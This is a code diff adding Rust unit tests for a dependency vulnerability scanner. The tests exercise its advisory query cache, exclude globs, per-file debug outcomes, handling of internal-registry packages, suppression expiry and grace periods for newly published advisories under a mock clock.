+        // Without Go sources nothing is known to be unused
+        let (found, _) = scan(&["svc/go.sum"]);
+        assert!(found.iter().all(|v| v.severity == Severity::High && v.downgrade.is_none()));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn repeated_scans_answer_unchanged_packages_from_the_query_cache() {
+        let advisory = json!({
+            "id": "GHSA-flask",
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "flask"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.3.2"}]}]
+            }],
+            "database_specific": {"severity": "HIGH"}
+        })
+        .to_string();
+        let root = fixture_workspace(
+            "query-cache",
+            &[("osv/GHSA-flask.json", advisory.as_bytes()), ("requirements.txt", b"flask==2.0.1\nrequests==2.31.0\n")],
+        );
+        let scan = || {
+            let config = ScanConfig {
+                db_path: Some(root.join("osv").display().to_string()),
+                verbosity: "debug".to_string(),
+                ..ScanConfig::default()
+            };
+            let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), config);
+            let mut logs = Vec::new();
+            scanner.load_vulnerability_db(&mut logs);
+            let sources = ["requirements.txt".to_string()];
+            let found = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut logs);
+            let ids: Vec<String> = found.iter().map(|v| v.id.clone()).collect();
+            (ids, scanner.query_cache, logs)
+        };
+
+        let (ids, stats, _) = scan();
+        assert_eq!(ids, ["GHSA-flask"]);
+        assert_eq!(stats, Some(report::QueryCacheStats { hits: 0, misses: 2 }));
+        let (ids, stats, logs) = scan();
+        assert_eq!(ids, ["GHSA-flask"]);
+        assert_eq!(stats, Some(report::QueryCacheStats { hits: 2, misses: 0 }));
+        assert!(logs.contains(&"  [debug] Advisory query cache: 2 hits, 0 misses".to_string()), "{:?}", logs);
+
+        fs::write(root.join("requirements.txt"), "flask==2.3.2\nrequests==2.31.0\n").unwrap();
+        let (ids, stats, _) = scan();
+        assert_eq!((ids.len(), stats), (0, Some(report::QueryCacheStats { hits: 1, misses: 1 })));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn excluded_sources_are_not_scanned_and_counted_in_debug() {
+        let root = fixture_workspace(
+            "globs",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("vendor/lib/requirements.txt", b"django==2.2.0\n"),
+                ("web/node_modules/express/package.json", b"{\"dependencies\": {\"express\": \"4.16.0\"}}"),
+            ],
+        );
+        let config = ScanConfig {
+            verbosity: "debug".to_string(),
+            exclude: vec!["vendor/**".to_string(), "**/node_modules/**".to_string()],
+            ..ScanConfig::default()
+        };
+        let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), config);
+        let mut logs = Vec::new();
+        let sources = [
+            "requirements.txt".to_string(),
+            r"vendor\lib\requirements.txt".to_string(),
+            root.join("web/node_modules/express/package.json").display().to_string(),
+        ];
+        let found = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut logs);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].file.as_deref(), Some("requirements.txt"));
+        assert!(logs.contains(&"  [debug] 2 files excluded by include/exclude globs".to_string()), "{:?}", logs);
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn files_that_contribute_nothing_say_why_in_debug() {
+        let root = fixture_workspace(
+            "outcomes",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("empty/requirements.txt", b"# nothing pinned yet\n"),
+                ("vendor/requirements.txt", b"django==2.2.0\n"),
+                ("web/package-lock.json", b"{}"),
+                ("big/requirements.txt", &[b'#'; 2048]),
+            ],
+        );
+        let scan = |verbosity: &str| {
+            let config = json!({"verbosity": verbosity, "exclude": ["vendor/**"], "max_file_size": 1024});
+            let sources = [
+                "requirements.txt",
+                "empty/requirements.txt",
+                "gone/requirements.txt",
+                "vendor/requirements.txt",
+                "web/package-lock.json",
+                "big/requirements.txt",
+                "app.py",
+            ];
+            let params = json!({
+                "target": {"name": "app", "sources": sources},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let result = scan("debug");
+        let outcomes: Vec<(&str, &str)> = result["extraction"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|file| (file["path"].as_str().unwrap(), file["outcome"].as_str().unwrap()))
+            .collect();
+        assert_eq!(
+            outcomes,
+            [
+                ("vendor/requirements.txt", "excluded"),
+                ("web/package-lock.json", "unsupported"),
+                ("requirements.txt", "parsed"),
+                ("empty/requirements.txt", "parsed"),
+                ("gone/requirements.txt", "not_found"),
+                ("big/requirements.txt", "too_large"),
+            ]
+        );
+        assert_eq!(result["extraction"][0]["glob"], "vendor/**");
+        assert_eq!(result["extraction"][3]["count"], 0);
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().filter_map(|l| l.as_str()).collect();
+        assert!(logs.contains(&"  [debug] empty/requirements.txt: parsed, 0 dependencies"), "{:?}", logs);
+        assert!(logs.contains(&"  [debug] gone/requirements.txt: not found"));
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        assert_eq!(
+            report["scan"]["extraction"],
+            json!({"excluded": 1, "not_found": 1, "parsed": 2, "too_large": 1, "unsupported": 1})
+        );
+        assert!(scan("info").get("extraction").is_none());
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn packages_from_internal_registries_are_listed_rather_than_matched() {
+        let yarn_lock = concat!(
+            "lodash@^4.17.15:\n",
+            "  version \"4.17.15\"\n",
+            "  resolved \"https://mirror.ourorg.dev/npm/lodash/-/lodash-4.17.15.tgz\"\n",
+        );
+        let root = fixture_workspace(
+            "registries",
+            &[
+                ("requirements.txt", b"--index-url https://pypi.ourorg.dev/simple\ndjango==2.2.0\n"),
+                ("web/yarn.lock", yarn_lock.as_bytes()),
+            ],
+        );
+        let config = json!({
+            "public_registries": ["https://mirror.ourorg.dev/npm"],
+            "internal_registries": ["https://pypi.ourorg.dev"]
+        });
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt", "web/yarn.lock"]},
+            "workspace": {"root": root.display().to_string(), "config": config}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().filter_map(|l| l.as_str()).collect();
+        assert!(logs.contains(&"  1 packages from internal registries not matched against advisories:"), "{:?}", logs);
+        assert!(logs.contains(&"    - django 2.2.0 (requirements.txt, https://pypi.ourorg.dev/simple)"));
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let internal = &report["internal_packages"];
+        assert_eq!((internal[0]["name"].as_str(), internal.as_array().map(Vec::len)), (Some("django"), Some(1)));
+        let findings = report["vulnerabilities"].as_array().unwrap();
+        assert!(!findings.is_empty() && findings.iter().all(|v| v["package"] == "lodash"));
+        assert_eq!(findings[0]["registry"], "https://mirror.ourorg.dev/npm");
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn suppressions_lapse_when_the_clock_passes_their_expiry() {
+        // Noon on the day the suppression expires
+        let clock = Arc::new(clock::MockClock::at_unix(1_782_820_800));
+        let root = fixture_workspace("clock-suppressions", &[("requirements.txt", b"django==2.2.0\n")]);
+        let scan = |logs: &mut Vec<String>| {
+            let workspace = root.to_string_lossy().into_owned();
+            let mut scanner = SecurityScanner::with_clock(workspace, ScanConfig::default(), clock.clone());
+            scanner.load_suppressions(logs);
+            scanner.scan_for_vulnerabilities(&["requirements.txt".to_string()], &mut FindingStream::default(), logs)
+        };
+
+        let id = scan(&mut Vec::new())[0].id.clone();
+        let entry = format!("suppressions:\n  - id: {}\n    reason: fix scheduled\n    expires: 2026-06-30\n", id);
+        fs::write(root.join(suppressions::SUPPRESSIONS_FILE_NAME), entry).unwrap();
+
+        // The expiry date is the last day the suppression applies
+        clock.advance(Duration::from_secs(12 * 60 * 60 - 1));
+        let mut logs = Vec::new();
+        assert!(scan(&mut logs).is_empty(), "{:?}", logs);
+
+        clock.advance(Duration::from_secs(1));
+        let mut logs = Vec::new();
+        assert_eq!(scan(&mut logs).len(), 1);
+        let expired = format!("  ⚠ Suppression of {} (django) expired on 2026-06-30", id);
+        assert!(logs.contains(&expired), "{:?}", logs);
+
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn recently_published_advisories_without_a_fix_only_warn_for_the_grace_period() {
+        let advisory = |id: &str, published: Option<&str>, fixed: Option<&str>| {
+            let mut events = vec![json!({"introduced": "0"})];
+            events.extend(fixed.map(|fixed| json!({"fixed": fixed})));
+            json!({
+                "id": id,
+                "published": published,
+                "affected": [{
+                    "package": {"ecosystem": "PyPI", "name": "flask"},
+                    "ranges": [{"type": "ECOSYSTEM", "events": events}]
+                }],
+                "database_specific": {"severity": "CRITICAL"}
+            })
+            .to_string()
+        };
+        let recent = Some("2026-06-29T12:00:00Z");
+        let root = fixture_workspace(
+            "grace-period",
+            &[
+                ("osv/GHSA-new.json", advisory("GHSA-new", recent, None).as_bytes()),
+                ("osv/GHSA-fixed.json", advisory("GHSA-fixed", recent, Some("2.3.2")).as_bytes()),
+                ("osv/GHSA-undated.json", advisory("GHSA-undated", None, None).as_bytes()),
+                ("requirements.txt", b"flask==2.0.0\n"),
+            ],
+        );
+        // A day after GHSA-new and GHSA-fixed were published
+        let clock = Arc::new(clock::MockClock::at_unix(1_782_820_800));
+        let config = ScanConfig {
+            db_path: Some(root.join("osv").display().to_string()),
+            fail_on_critical: true,
+            grace_period: Some("72h".to_string()),
+            ..ScanConfig::default()
+        };
+        let mut scanner = SecurityScanner::with_clock(root.to_string_lossy().into_owned(), config, clock.clone());
+        let mut logs = Vec::new();
+        scanner.load_vulnerability_db(&mut logs);
+        let sources = ["requirements.txt".to_string()];
+        scanner.vulnerabilities = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut logs);
+        scanner.mark_in_grace(&mut logs);
+
+        let new = scanner.vulnerabilities.iter().find(|v| v.id == "GHSA-new").unwrap();
+        assert_eq!(new.published.as_deref(), recent);
+        assert_eq!(new.grace_until.as_deref(), Some("2026-07-02T12:00:00Z"));
+        assert!(scanner.vulnerabilities.iter().filter(|v| v.id != "GHSA-new").all(|v| v.grace_until.is_none()));
+        let warning = "GHSA-new in flask 2.0.0 has no fix yet; it only warns until 2026-07-02T12:00:00Z (grace_period)";
+        assert!(logs.contains(&format!("  ⚠ {}", warning)), "{:?}", logs);
+        assert_eq!(scanner.policy_violations(), ["2 critical vulnerabilities (fail_on_critical)"]);
+
+        clock.advance(Duration::from_secs(2 * 24 * 60 * 60));
+        scanner.mark_in_grace(&mut logs);
+        assert!(scanner.vulnerabilities.iter().all(|v| v.grace_until.is_none()));
+        assert_eq!(scanner.policy_violations(), ["3 critical vulnerabilities (fail_on_critical)"]);
+
+        let invalid = json!({"grace_period": "soon"});
+        let error = ScanConfig::resolve(None, Some(&invalid), None, Vec::new()).err().unwrap();
+        assert_eq!(error, "grace_period: expected hours or days such as 72h or 3d, got 'soon'");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn pending_summaries_go_stale_by_the_scanner_clock() {
+        let clock = Arc::new(clock::MockClock::at_unix(1_782_820_800));
+        let root = fixture_workspace("clock-summaries", &[]);
+        let dir = summary::summaries_dir(&root);
+        let workspace = root.to_string_lossy().into_owned();
+        let scanner = SecurityScanner::with_clock(workspace, ScanConfig::default(), clock.clone());
+        let build_secs = 30;
+        let record_then_wait = |wait: u64| {
+            summary::record(&dir, &scanner.target_summary("//app:main", &[], Vec::new())).unwrap();
+            clock.advance(Duration::from_secs(wait));
+            summary::take(&dir, "//app:main", clock::unix_secs(clock.now()), build_secs).unwrap()
+        };
+
+        let lookup = record_then_wait(build_secs + summary::GRACE_SECS);
+        assert!(matches!(&lookup, summary::Lookup::Found(s) if s.scanned_at == "2026-06-30T12:00:00Z"));
+        let lookup = record_then_wait(build_secs + summary::GRACE_SECS + 1);
+        assert!(matches!(&lookup, summary::Lookup::Stale(s) if s.scanned_at == "2026-06-30T12:10:30Z"));
+
+        let _ = fs::remove_dir_all(root);
+    }
+}